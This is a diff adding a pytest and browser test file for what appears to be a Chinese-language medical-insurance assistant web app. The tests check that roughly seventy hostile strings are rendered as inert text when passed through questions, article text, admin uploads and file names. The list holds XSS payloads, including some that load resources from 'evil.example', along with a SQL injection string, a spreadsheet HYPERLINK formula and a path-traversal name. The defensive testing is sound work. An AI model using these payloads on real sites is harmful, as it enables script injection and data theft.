@@ -1,0 +1,247 @@
+"""Hostile strings through question, article text, titles, file names and uploads: nothing runs.
+
+Every string would set ``window.hacked`` or fetch from another host if anything in it were executed
+or rendered; a page counts as unharmed when it is undefined, no such element exists, and the words
+stand on the page as they were given.
+"""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import date
+from typing import Any
+
+import httpx
+import pytest
+from conftest import PASSWORD, Served, Visit, ask
+from page_fake import GUIDE, cite, passage, rich
+
+from assistant.page.admin.library import safe_name
+from assistant.types import ClaimCited, Conflict, Context, LegalBasis, Procedure, Statement, Step
+from corpus.errors import InputError
+from corpus.types import Article, Source
+
+RUN = "window.hacked=1"
+FAR = "//evil.example"
+HOSTILE = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script src={FAR}/x.js></script>",
+    f"</script><script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src={FAR}/x.png>",
+    f"<img src='x' onerror='{RUN}' />",
+    f'"><img src=x onerror="{RUN}">',
+    f"'><img src=x onerror='{RUN}'>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'></svg>",
+    f"<iframe src='javascript:{RUN}'></iframe>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='{FAR}/x.swf'>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<select autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<video poster={FAR}/x.png>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<a href='javascript:{RUN}'>点我</a>",
+    f"<a href='{FAR}'>点我</a>",
+    f"<form action='{FAR}'><button>提交</button></form>",
+    f"<button formaction='javascript:{RUN}'>提交</button>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f"<style>@import '{FAR}/x.css';</style>",
+    f"<style>body{{background:url({FAR}/x.png)}}</style>",
+    f"<link rel=stylesheet href={FAR}/x.css>",
+    f"<meta http-equiv=refresh content='0;url={FAR}'>",
+    f"<base href='{FAR}/'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
+    f"<textarea></textarea><script>{RUN}</script>",
+    f"<title></title><img src=x onerror={RUN}>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    f"<x onclick={RUN} style=position:fixed;inset:0>x</x>",
+    f"<p style=\"background:url('{FAR}/x.png')\">x</p>",
+    f"&lt;img src=x onerror={RUN}&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\\u003cimg src=x onerror={RUN}\\u003e",
+    f"%3Cimg%20src=x%20onerror={RUN}%3E",
+    f"＜script＞{RUN}＜/script＞",
+    f"![图]({FAR}/x.png)",
+    f"![图](x\" onerror=\"{RUN})",
+    f"[点我](javascript:{RUN})",
+    f"[点我]({FAR})",
+    f"[1]: javascript:{RUN}",
+    f"<{FAR[2:]}>",
+    "```html\n<img src=x onerror=window.hacked=1>\n```",
+    "`<img src=x onerror=window.hacked=1>`",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"${{{RUN}}}",
+    f"`${{{RUN}}}`",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"{{{{#with this}}}}{RUN}{{{{/with}}}}",
+    f"{{%raw%}}{RUN}{{%endraw%}}",
+    f"');{RUN};//",
+    f"\";{RUN};//",
+    f"\\\";{RUN};//",
+    f"</p></section></article><img src=x onerror={RUN}>",
+    f"\u2028{RUN}\u2029",
+    f"\u202e<img src=x onerror={RUN}>",
+    f"|表|头|\n|-|-|\n|<img src=x onerror={RUN}>|x|",
+    f"# 标题<img src=x onerror={RUN}>",
+    f"=HYPERLINK(\"{FAR}\")",
+    "'; DROP TABLE shares; --",
+)  # fmt: skip
+
+LOOK = """() => ({
+  ran: window.hacked !== undefined,
+  made: [...document.querySelectorAll('#bot, #source, #talks, #articles, #report, #removed, .rows')].flatMap(
+    (e) => [...e.querySelectorAll('script,img,svg:not(.charts svg),iframe,object,embed,video,audio,style,link,' +
+      'meta,base,form:not(.why),template,marquee,math,input:not(.why input),x,[onclick],[onerror],[onload]')])
+    .filter((e) => !e.closest('.charts')).map((e) => e.outerHTML),
+  links: [...document.querySelectorAll('#bot a, #source a')].map((a) => a.getAttribute('href'))
+    .filter((h) => !h.startsWith('#p')),
+})"""
+
+
+def unharmed(page: Any) -> None:
+    seen = page.evaluate(LOOK)
+    assert not seen["ran"]
+    assert seen["made"] == []
+    assert seen["links"] == []
+
+
+def test_there_are_enough_of_them() -> None:
+    assert len(set(HOSTILE)) == len(HOSTILE) >= 60
+
+
+@pytest.mark.browser
+def test_through_the_question(visit: Visit) -> None:
+    """Some typed, all of them as talks that the browser remembers."""
+    page = visit()
+    for text in HOSTILE[::12]:
+        turn = ask(page, " ".join(text.split()))
+        assert turn.locator(".asked").inner_text() == " ".join(text.split())
+    unharmed(page)
+    for group in (HOSTILE[:36], HOSTILE[36:]):
+        talk = {"id": "x", "said": [[text, []] for text in group], "when": 0}
+        page.evaluate(
+            "t => { localStorage['yibao.talks'] = JSON.stringify([t]); "
+            "sessionStorage['yibao.current'] = 'x' }",
+            talk,
+        )
+        page.reload()
+        page.locator(".turn").nth(len(group) - 1).wait_for()
+        shown = page.locator(".asked").all_inner_texts()
+        assert [" ".join(s.split()) for s in shown] == [" ".join(t.split()) for t in group]
+        unharmed(page)
+        page.get_by_role("button", name="对话记录").click()
+        unharmed(page)
+        page.keyboard.press("Escape")
+
+
+def hostile_answer() -> Any:
+    """One answer with every string in every place where words of a source or a person stand."""
+    text = "\n".join(t.replace("\n", " ") for t in HOSTILE)
+    bad = HOSTILE[7]
+    article = Article(
+        id=f"x/{bad}", title=HOSTILE[0] + bad, text=text,
+        source=Source(bad, bad, f"javascript:{'x'}//{bad}", date(2025, 1, 1)), region=bad,
+    )  # fmt: skip
+    one = cite(1, article, text)
+    every = tuple(Statement(t, (one,)) for t in HOSTILE)
+    return replace(
+        rich("问", Context(region=bad)),
+        understood="\n".join(HOSTILE),
+        summary=every,
+        procedures=(Procedure(bad, tuple(Step(t, (one,)) for t in HOSTILE), None, bad, bad),),
+        materials=every, places=every, times=every, cautions=every,
+        legal_basis=(
+            LegalBasis(bad, bad, text, "in force", passage=passage(article)),
+            LegalBasis(bad, bad, text, "repealed"),
+        ),
+        conflicts=(
+            Conflict(bad, tuple(ClaimCited(t, one, None, t, None, t, (t,)) for t in HOSTILE),
+                     every[0], bad),
+        ),
+        options=HOSTILE, follow_ups=HOSTILE, citations=(one,),
+    )  # fmt: skip
+
+
+@pytest.mark.browser
+def test_through_the_text_of_articles(visit: Visit, server: Served) -> None:
+    page = visit()
+    server.assistant.hostile = hostile_answer()
+    try:
+        turn = ask(page, "问题")
+        unharmed(page)
+        assert turn.locator(".summary p").count() == len(HOSTILE)
+        for key in ("1", "l1"):
+            turn.locator(f'.cite[data-n="{key}"]').first.click()
+            page.locator(f'.cite.open[data-n="{key}"]').first.wait_for(state="attached")
+            unharmed(page)
+        words = page.locator("#source .text").inner_text()
+        assert all(" ".join(t.split())[:30] in " ".join(words.split()) for t in HOSTILE)
+        turn.locator("[data-do=copy]").click()
+        page.get_by_text("已复制").wait_for()
+        unharmed(page)
+    finally:
+        server.assistant.hostile = None
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_through_the_programs_doors(server: Served, text: str) -> None:
+    answer = httpx.post(server.url + "api/ask", json={"question": text})
+    assert answer.status_code == 200
+    assert answer.headers["content-type"] == "application/json"
+    assert answer.json()["question"] == text
+
+
+def test_names_of_files_become_harmless() -> None:
+    for text in HOSTILE:
+        name = safe_name(text + ".md")
+        assert name.endswith(".md")
+        assert not set(name) & set("/\\<>\"'&`$;:| \n%*?")
+        assert not name.startswith(".")
+    assert safe_name("../../etc/passwd.txt") == "passwd.txt"
+    assert safe_name("..\\..\\医保 问答.MD") == "医保_问答.md"
+    assert safe_name(".md.md") == "md.md"
+    for bad in ("a.py", "a.md.exe", "a", "", ".htaccess", "a.svg", "a.zip"):
+        with pytest.raises(InputError):
+            safe_name(bad)
+
+
+@pytest.mark.browser
+def test_through_upload_file_name_and_lists(visit: Visit, server: Served) -> None:
+    """Uploaded by the admin: the report, the list and the tables show words, nothing runs."""
+    bad = HOSTILE[4]
+    server.assistant.articles.append(
+        replace(GUIDE, id="x", title=bad, source=Source(bad, bad + ".md", None, None))
+    )
+    for text in HOSTILE:
+        server.feedback.record(text, status="refused", rating="down", reason=text, comment=text)
+    page = visit("admin/")
+    page.fill("#password", PASSWORD)
+    page.get_by_role("button", name="进入").click()
+    page.locator("#upload input[type=file]").set_input_files(
+        [
+            {"name": "<img src=x onerror=window.hacked=1>.md", "mimeType": "text/markdown",
+             "buffer": "\n".join(HOSTILE).encode()},
+            {"name": "x.svg.md", "mimeType": "text/markdown", "buffer": b"\0\0binary"},
+        ]
+    )  # fmt: skip
+    page.locator("#upload", has_text=".md").wait_for()
+    page.get_by_role("button", name="添加并更新").click()
+    page.locator("#report pre").wait_for()
+    assert "不是文本文件" in page.locator("#report").inner_text()
+    unharmed(page)
+    for tab in ("资料列表", "未答问题", "读者反馈", "概况"):
+        page.get_by_role("tab", name=tab).click()
+        page.wait_for_timeout(300)
+        unharmed(page)
+    server.assistant.articles.pop()
